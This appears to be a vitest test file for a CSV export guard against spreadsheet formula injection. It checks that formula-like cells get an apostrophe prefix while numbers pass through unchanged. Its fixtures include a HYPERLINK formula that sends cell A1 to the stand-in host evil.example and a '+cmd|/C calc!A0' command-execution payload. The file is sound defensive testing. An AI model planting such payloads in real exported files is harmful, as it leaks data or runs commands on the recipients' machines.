import { describe, expect, it } from 'vitest';
import { toCsv } from '../client/cli/format/write-table.js';
import { formulaSafeTable, neutraliseFormula, safeCsv } from './csv.js';

const HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"details")';

describe('CSV formula-injection guard (OWASP CSV injection)', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['+cmd|/C calc!A0', "'+cmd|/C calc!A0"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
    ['\t=1', "'\t=1"],
    ['\r=1', "'\r=1"],
    ['\n=1', "'\n=1"],
  ])('prefixes the text cell %j with an apostrophe', (cell, want) => {
    expect(neutraliseFormula(cell)).toBe(want);
  });

  it.each([[-3.5], [0], [1e-9], ['-12'], ['+3.5e-2'], ['.5'], ['a=b'], ['plain'], [''], [null], [true]])('leaves %j as it is (numbers stay numbers)', (cell) => {
    expect(neutraliseFormula(cell)).toBe(cell);
  });

  it('writes a hostile group name as inert text, byte for byte, and keeps negative numbers numeric', () => {
    const table = { columns: ['product', 'count', 'delta'], rows: [{ product: HYPERLINK, count: 42, delta: -3.5 }, { product: 'b', count: 17, delta: -1 }] };
    expect(safeCsv(table)).toBe(`product,count,delta\r\n"'=HYPERLINK(""https://evil.example/?""&A1,""details"")",42,-3.5\r\nb,17,-1\r\n`);
    // Negative control: the unguarded writer would hand the spreadsheet a live formula.
    expect(toCsv(table).split('\r\n')[1]!.startsWith('"=HYPERLINK(')).toBe(true);
  });

  it('guards column names too, and is the identity on a table with nothing formula-like', () => {
    expect(formulaSafeTable({ columns: ['@x'], rows: [{ '@x': 1 }] })).toEqual({ columns: ["'@x"], rows: [{ "'@x": 1 }] });
    const plain = { columns: ['gender_concept_id', 'count'], rows: [{ gender_concept_id: 8507, count: 200 }, { gender_concept_id: '-1', count: -2 }] };
    expect(safeCsv(plain)).toBe(toCsv(plain));
  });
});
